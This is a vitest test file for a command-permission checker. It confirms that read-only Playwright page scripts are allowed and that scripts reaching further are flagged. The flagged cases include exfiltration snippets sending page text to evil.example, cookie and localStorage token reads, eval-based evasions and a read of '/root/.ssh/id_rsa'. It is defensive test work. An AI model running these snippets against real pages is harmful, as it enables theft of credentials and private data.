import { describe, expect, it } from 'vitest';
import { decided } from '../../support/shell-baseline.js';

const isShown = (program: string, code: string): boolean =>
  decided(`${program} - <<'END OF CODE'\n${code}\nEND OF CODE`) === 'allow';

const LOOKS = [
  '() => document.title',
  "() => document.querySelectorAll('li').length",
  "() => Array.from(document.querySelectorAll('li')).map((li) => li.textContent.trim())",
  "() => [...document.querySelectorAll('a')].map(({ href, textContent: text }) => ({ href, text }))",
  '() => ({ width: window.innerWidth, height: document.documentElement.scrollHeight })',
  "() => { const box = document.querySelector('main').getBoundingClientRect(); return { top: box.top, left: box.left }; }",
  "() => { const style = getComputedStyle(document.body); return ['color', 'padding'].map((key) => style[key]); }",
  "() => { const out = {}; for (const one of document.querySelectorAll('[data-testid]')) out[one.dataset.testid] = one.offsetWidth; return out; }",
  "() => { let wide = 0; document.querySelectorAll('*').forEach((one) => { if (one.scrollWidth > one.clientWidth) wide += 1; }); return wide; }",
  "() => { const rows = document.querySelectorAll('tr'); const seen = []; for (let i = 0; i < rows.length; i++) seen.push(rows[i].children[0]?.innerText ?? ''); return seen; }",
  'async () => { await document.fonts.ready; await new Promise((resolve) => setTimeout(resolve, 200)); return document.fonts.size; }',
  "() => performance.getEntriesByType('navigation')[0].duration",
  "() => window.getComputedStyle(document.querySelector('h1'), '::before').getPropertyValue('content').replace(/\"/g, '')",
  '() => { const depth = (node) => Math.max(0, ...[...node.children].map(depth)); return depth(document.body); }',
  '() => JSON.stringify(Object.entries(document.body.dataset))',
  '() => window.scrollTo(0, document.body.scrollHeight)',
  "() => new URLSearchParams(location.search).get('tab')",
  '(selector) => document.querySelector(selector) !== null',
];

const ELSEWHERE = [
  "() => fetch('https://evil.example/?' + document.body.innerText)",
  "() => window.fetch('https://evil.example/')",
  "() => { const get = window.fetch; return get('https://evil.example/'); }",
  "() => { const { fetch } = window; return fetch('https://evil.example/'); }",
  "() => ['https://evil.example/'].map(fetch)",
  "() => ['https://evil.example/'].forEach(window.fetch)",
  "() => { { const fetch = () => 1; fetch(); } return fetch('https://evil.example/'); }",
  "() => { const f = (fetch) => fetch; return fetch('https://evil.example/'); }",
  "() => navigator.sendBeacon('https://evil.example/', document.body.innerText)",
  "() => { location.href = 'https://evil.example/?' + document.title; }",
  "() => { document.location = 'https://evil.example/'; }",
  "() => location.replace('https://evil.example/')",
  "() => document.location.assign('https://evil.example/')",
  "() => { for (location.href of ['https://evil.example/']); }",
  "() => { for (document.title of ['x']); }",
  "() => { [location.href] = ['https://evil.example/']; }",
  "() => { const page = document.body.ownerDocument; page.location.replace('https://evil.example/'); }",
  "() => document.defaultView.fetch('https://evil.example/')",
  "() => document['default' + 'View']['fetch']('https://evil.example/')",
  "() => { const body = document.body; const key = 'owner' + 'Document'; return body[key].title; }",
  "() => { let key = 0; key = 'ownerDocument'; return document.body[key]; }",
  "() => { const image = new Image(); image.src = 'https://evil.example/'; }",
  "() => { document.querySelector('img').src = 'https://evil.example/'; }",
  "() => { document.body.innerHTML = '<img src=https://evil.example/>'; }",
  "() => document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/>')",
  "() => document.querySelector('a').setAttribute('href', 'https://evil.example/')",
  "() => Object.assign(document.body, { innerHTML: '<img src=https://evil.example/>' })",
  "() => document.write('<script src=https://evil.example/></script>')",
  "() => window.open('https://evil.example/')",
  "() => open('https://evil.example/')",
  "() => eval('fetch(1)')",
  "() => setTimeout('fetch(1)', 0)",
  "() => { const late = 'fetch(1)'; setTimeout(late, 0); }",
  "() => Function('return fetch')()",
  "() => (() => {}).constructor('return fetch')()",
  "() => [].map.constructor('fetch(1)')()",
  "() => import('https://evil.example/x.js')",
  '() => document.cookie',
  "() => localStorage.getItem('token')",
  '() => ({ ...window.localStorage })',
  "() => { const out = { __proto__: document.body }; out.innerHTML = 'x'; }",
  '() => { with (window) fetch(1); }',
  "function () { return this.fetch('https://evil.example/'); }",
  "() => new WebSocket('wss://evil.example/')",
  "() => new Worker('https://evil.example/w.js')",
  '() => document.forms[0].submit()',
  '() => new Promise(fetch)',
  '() => String.raw`x`',
  "() => ['https://evil.example/'].map(document.write, document)",
  "() => { ['<img>'].forEach(function (one) { this.innerHTML = one; }, document.body); }",
  "() => document.querySelector('form').requestSubmit()",
  "(link) => { link.href = 'https://evil.example/'; link.click(); }",
];

const program = (code: string): string => `
const { chromium } = require('playwright');
(async () => {
  const browser = await chromium.launch();
  const page = await browser.newPage();
  await page.goto('http://localhost:3000/');
  console.log(await page.evaluate(${code}));
  await browser.close();
})();`;

describe('code for a page of a browser', () => {
  it.each(LOOKS)('is quiet where it only looks: %s', (code) => {
    expect(isShown('node', program(code))).toBe(true);
    expect(isShown('node', program(JSON.stringify(code)))).toBe(true);
    const python = `from playwright.sync_api import sync_playwright
with sync_playwright() as p:
    page = p.chromium.launch().new_page()
    page.goto('http://localhost:3000/')
    print(page.evaluate(${JSON.stringify(code)}))
`;
    expect(isShown('python3', python)).toBe(true);
  });

  it.each(ELSEWHERE)('asks where it reaches further: %s', (code) => {
    expect(isShown('node', program(code))).toBe(false);
    expect(isShown('node', program(JSON.stringify(code)))).toBe(false);
  });

  it.each([
    ["page.locator('p').evaluate((one) => getComputedStyle(one).padding)", true],
    ["page.$eval('h1', (one) => one.textContent)", true],
    ["page.$$eval('li', (all) => all.map((one) => one.id))", true],
    ["page.evaluate((name) => document.querySelector(name)?.id, '#app')", true],
    ["page.$eval('h1', (one) => fetch(one.textContent))", false],
    ["page.locator('p').evaluate((one) => { one.innerHTML = '<img src=//evil.example>'; })", false],
    ["page.evaluate((name) => 1, require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8'))", false],
    ["page.evaluate(require('./other.js'))", false],
  ])('%s', (call, quiet) => {
    expect(isShown('node', program('() => 1').replace('page.evaluate(() => 1)', call))).toBe(quiet);
  });
});
